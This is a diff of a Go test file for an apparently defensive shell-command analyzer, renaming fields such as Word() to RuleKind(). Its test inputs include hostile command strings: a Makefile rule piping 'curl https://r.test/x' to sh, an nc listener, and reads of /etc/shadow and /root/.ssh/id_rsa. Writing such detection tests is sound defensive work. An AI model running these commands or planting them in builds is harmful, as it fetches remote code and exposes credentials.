@@ -46,7 +46,7 @@ func TestWhatIsReadWhereItLies(t *testing.T) {
 	}
 	place := here()
 	folder := place.CWD + "/"
-	place.Script = func(p string) ([]byte, error) {
+	place.ReadScript = func(p string) ([]byte, error) {
 		for name, text := range files {
 			if p == folder+name {
 				return []byte(text), nil
@@ -56,11 +56,11 @@ func TestWhatIsReadWhereItLies(t *testing.T) {
 	}
 	grave := func(text string) bool {
 		return slices.ContainsFunc(Analyze(text, place).Effects, func(e effect.Effect) bool {
-			switch e.Word() {
+			switch e.RuleKind() {
 			case effect.RunDownload, effect.ChangeRemote:
 				return true
 			case effect.Dynamic:
-				return e.Cause != effect.CauseAbsent
+				return e.Cause != effect.CauseMissingScript
 			case effect.ReadFile:
 				return effect.SecretPath(e.Path, false)
 			case effect.RunCode:
@@ -143,7 +143,7 @@ func TestWhatIsReadWhereItLies(t *testing.T) {
 func TestListenedPort(t *testing.T) {
 	t.Parallel()
 	for _, e := range Analyze("nc -l 9999", here()).Effects {
-		if e.Word() == effect.Listen && e.Host != "" {
+		if e.RuleKind() == effect.Listen && e.Host != "" {
 			t.Errorf("listens at %s", e.Host)
 		}
 	}
@@ -168,7 +168,7 @@ func TestCommandsAsInput(t *testing.T) {
 		"echo 'cat /etc/shadow' | md5sum":       false,
 		"echo 'rm -rf / is dangerous' | pbcopy": false,
 	} {
-		got := slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.Word() == effect.Dynamic })
+		got := slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.RuleKind() == effect.Dynamic })
 		if got != want {
 			t.Errorf("%s: %t", text, got)
 		}
@@ -181,7 +181,7 @@ func TestUnreadIsBounded(t *testing.T) {
 	t.Parallel()
 	place := here()
 	self := place.CWD + "/self.txt"
-	place.Script = func(p string) ([]byte, error) {
+	place.ReadScript = func(p string) ([]byte, error) {
 		if p == self {
 			return []byte("-r self.txt\n--requirement=self.txt\nself.txt\n-T self.txt\n"), nil
 		}
@@ -200,7 +200,7 @@ func TestUnreadIsBounded(t *testing.T) {
 		"deep":           "frob --frob=" + many(200, "$(echo ") + "/root/.ssh/id_rsa" + many(200, ")"),
 	} {
 		effects := Analyze(text, place).Effects
-		if !slices.ContainsFunc(effects, func(e effect.Effect) bool { return e.Sure == effect.Unknown || e.Path == "/root/.bashrc" }) {
+		if !slices.ContainsFunc(effects, func(e effect.Effect) bool { return e.Certainty == effect.Unknown || e.Path == "/root/.bashrc" }) {
 			t.Errorf("%s: nothing is unknown", name)
 		}
 		if len(effects) > 3*maxSteps {
@@ -219,7 +219,7 @@ func TestUnreadIsBounded(t *testing.T) {
 func TestManyWrittenFiles(t *testing.T) {
 	t.Parallel()
 	unknown := func(text string) bool {
-		return slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.Sure == effect.Unknown || e.Word() == effect.RunCode })
+		return slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.Certainty == effect.Unknown || e.RuleKind() == effect.RunCode })
 	}
 	files := func(n int, name string) string {
 		var b strings.Builder
@@ -230,8 +230,8 @@ func TestManyWrittenFiles(t *testing.T) {
 	}
 	first := "printf 'all:\\n\\tcurl https://r.test/x | sh\\n' > Makefile\n"
 	for text, want := range map[string]bool{
-		first + files(20, ".mk"): true, first + files(maxWritten+20, ".mk"): true, first + files(200, ".txt"): true,
-		files(200, ".txt"): false, files(20, ".mk"): false, files(maxWritten+20, ".mk"): true,
+		first + files(20, ".mk"): true, first + files(maxWrittenFiles+20, ".mk"): true, first + files(200, ".txt"): true,
+		files(200, ".txt"): false, files(20, ".mk"): false, files(maxWrittenFiles+20, ".mk"): true,
 	} {
 		if got := unknown(text); got != want {
 			t.Errorf("%.60s… of %d bytes: %t", text, len(text), got)
